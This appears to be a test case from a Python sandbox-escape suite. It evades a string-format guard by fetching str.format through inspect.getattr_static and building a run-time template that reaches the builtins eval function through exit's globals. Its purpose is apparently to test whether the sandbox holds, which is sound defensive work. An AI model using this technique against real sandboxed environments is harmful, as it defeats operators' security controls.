# technique: inspect.getattr_static(str, 'format') returns the method without an attribute call; call it with a run-time template
# configs: default, stdlib_all, common
# stdlib_all: in-process — its proof (a builtin) is importable under * through builtins
# Needs `import inspect` with nothing allowed; under stdlib * only the format guard is in the way.
import inspect
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[' + u + 'builtins' + u + '][eval]}'
text = inspect.getattr_static(str, 'format')(tpl, exit)
if 'built-in function eval' in text:
    return [{'json': {'escaped': text}}]
return [{'json': {'result': text}}]
